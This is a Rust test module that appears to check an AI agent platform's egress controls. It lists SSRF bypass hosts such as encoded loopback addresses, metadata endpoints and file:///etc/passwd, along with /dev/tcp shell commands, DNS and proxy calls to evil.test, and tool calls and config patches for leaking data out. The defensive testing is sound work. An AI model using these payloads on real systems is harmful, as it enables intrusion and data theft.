//! Carrying something out: to addresses that no rule allows, in every way to write them, by every tool
//! and method that takes one. Names, redirects and rebinding have a test of their own (`egress`).

use serde_json::json;

use super::{Row, Scene, Score};

pub(super) async fn attempt(scene: &mut Scene, score: &mut Score) {
    let port = scene.listener.local_addr().unwrap().port();
    scene.make(fetches(port), score).await;
    scene.make(programs(port, scene.toolbox.gateway.address().port()), score).await;
    scene.make(others(port), score).await;
    by_method(scene, port, score).await;
}

/// The tool that fetches, with every form of an address of this machine and of what is not listed.
fn fetches(port: u16) -> Vec<Row> {
    let hosts = [
        "127.0.0.1",
        "localhost",
        "LOCALHOST.",
        "127.1",
        "2130706433",
        "0x7f000001",
        "0177.0.0.1",
        "0x7f.1",
        "127.0.0.1.",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "[::127.0.0.1]",
        "[64:ff9b::7f00:1]",
        "[2002:7f00:1::]",
        "0.0.0.0",
        "[::]",
        "0",
        "①②⑦.⓪.⓪.①",
        "allowed.test@127.0.0.1",
        "127.0.0.1#allowed.test",
        "allowed.test%00.127.0.0.1",
        "allowed.test\\@127.0.0.1",
        "a.wild.test@127.0.0.1",
        "169.254.169.254",
        "[fd00:ec2::254]",
        "metadata.google.internal",
        "allowed.test.evil.test",
        "xallowed.test",
    ];
    let urls = hosts.into_iter().flat_map(|host| {
        ["http", "https"].map(|scheme| format!("{scheme}://{host}:{port}/take?word=x"))
    });
    let others = [
        format!("http://allowed.test:{port}/"),
        format!("//127.0.0.1:{port}/"),
        format!("gopher://127.0.0.1:{port}/_x"),
        format!("ftp://127.0.0.1:{port}/x"),
        format!("ws://127.0.0.1:{port}/"),
        format!(" http://127.0.0.1:{port}/"),
        format!("http:127.0.0.1:{port}"),
        format!("http://user:word@127.0.0.1:{port}/"),
        format!("jar:http://127.0.0.1:{port}!/x"),
        "file:///etc/passwd".to_owned(),
        "data:text/plain,root:x:0:0".to_owned(),
        "http://allowed.test\r\nhost: x/".to_owned(),
    ];
    let rows = urls
        .chain(others)
        .map(|url| Row::new("web_fetch", json!({"url": url})).reaching("root:x:0"));
    rows.collect()
}

/// Programs with no network of their own.
fn programs(port: u16, gateway: u16) -> Vec<Row> {
    let run = |command: String| {
        Row::new("exec", json!({"command": command, "timeout": 20})).reaching("reached")
    };
    let python = |code: String| run(format!("python3 -c \"{code}\nprint('rea'+'ched')\""));
    let mut rows: Vec<_> = [
        format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo word >&3 && echo rea''ched"),
        format!("echo word > /dev/udp/127.0.0.1/{port} && echo rea''ched"),
        format!("curl -sS -m 5 http://127.0.0.1:{port}/ && echo rea''ched"),
        format!("curl -sS -m 5 -x http://127.0.0.1:{port} http://allowed.test/ && echo rea''ched"),
        format!("curl -sS -m 5 http://127.0.0.1:{gateway}/healthz && echo rea''ched"),
        "curl -sS -m 5 http://169.254.169.254/latest/meta-data/ && echo rea''ched".to_owned(),
        "getent hosts word.evil.test && echo rea''ched".to_owned(),
        "curl -sS -m 5 -x http://127.0.0.1:3128 http://evil.test/ && echo rea''ched".to_owned(),
        "ping -c1 -W1 127.0.0.1 && echo rea''ched".to_owned(),
        "ip route get 1.1.1.1 && echo rea''ched".to_owned(),
        "ls /run/*.sock /tmp/*.sock /var/run/docker.sock && echo rea''ched".to_owned(),
    ]
    .map(run)
    .into();
    rows.extend([
        python(format!("import socket\nsocket.create_connection(('127.0.0.1',{port}),2)")),
        python(format!("import socket\nsocket.socket(socket.AF_INET,socket.SOCK_DGRAM).sendto(b'word',('127.0.0.1',{port}))")),
        python("import socket\nsocket.socket(socket.AF_VSOCK,socket.SOCK_STREAM).connect((2,80))".to_owned()),
        python("import socket\nsocket.socket(socket.AF_NETLINK,socket.SOCK_RAW,0)".to_owned()),
    ]);
    rows
}

/// Other tools that take an address or a target.
fn others(port: u16) -> Vec<Row> {
    let url = format!("http://127.0.0.1:{port}/word");
    let send = |target: &str| {
        Row::new("message", json!({"action": "send", "target": target, "message": "word"}))
    };
    let job = |delivery: serde_json::Value| {
        let job = json!({
            "name": "word", "schedule": {"kind": "every", "everyMs": 60_000}, "sessionTarget": "isolated",
            "wakeMode": "now", "payload": {"kind": "agentTurn", "message": "word"}, "delivery": delivery,
        });
        Row::new("cron", json!({"action": "add", "job": job}))
    };
    vec![
        Row::new("image", json!({"prompt": "look", "image": url})),
        Row::new("image", json!({"prompt": "look", "images": [url, "http://[::1]/x.png"]})),
        Row::new("image", json!({"prompt": "look", "image": "file:///etc/passwd"}))
            .reaching("root:x:0"),
        send(&url),
        send(&format!("webhook:{url}")),
        send("telegram:1"),
        send("victim"),
        Row::new(
            "message",
            json!({"action": "send", "channel": "webhook", "target": url, "media": url, "message": "word"}),
        ),
        job(json!({"mode": "webhook", "to": url})),
        job(json!({"mode": "announce", "channel": "webhook", "to": url})),
        Row::new(
            "sessions_spawn",
            json!({"task": "word", "attachments": [{"name": "a", "url": url}]}),
        ),
        Row::new("web_search", json!({"query": url})),
        Row::new("browser", json!({"action": "open", "url": url})),
        Row::new("nodes", json!({"action": "run", "command": ["curl", url]})),
        Row::new("gateway", json!({"action": "config.patch", "raw": "{}"})),
    ]
}

/// What a tenant's own settings and messages could lead out.
async fn by_method(scene: &mut Scene, port: u16, score: &mut Score) {
    let url = format!("http://127.0.0.1:{port}/word");
    let settings = [
        json!({"tools": {"egress": {"allow": [format!("http://127.0.0.1:{port}"), "https://*"]}}}),
        json!({"tools": {"web": {"fetch": {"ssrfPolicy": {"allowPrivateNetwork": true}}}}}),
        json!({"models": {"providers": {"mine": {"baseUrl": url}}}}),
        json!({"hooks": {"enabled": true, "mappings": [{"id": "x", "transform": {"module": url}}]}}),
        json!({"egress": {"allow": ["https://*"]}}),
    ];
    for change in settings {
        let hash = scene.hostile.operator.ok("config.get", json!({})).await["hash"].take();
        let patch = json!({"raw": change.to_string(), "baseHash": hash});
        let said = scene.hostile.operator.call("config.patch", patch).await;
        // What may be set, and has no effect beyond what the operator allows.
        let told = scene.hands.call("web_fetch", json!({"url": url})).await;
        score.note(&change, scene.is_silent(), format_args!("{said:?} {told}"));
    }
    let picture = json!({"model": "openclaw", "messages": [{"role": "user", "content": [
        {"type": "text", "text": "look"}, {"type": "image_url", "image_url": {"url": url}},
    ]}]});
    let reply = scene.hands.client().post("/v1/chat/completions", &picture).await;
    score.note("a picture by its address", scene.is_silent(), reply.text());
}
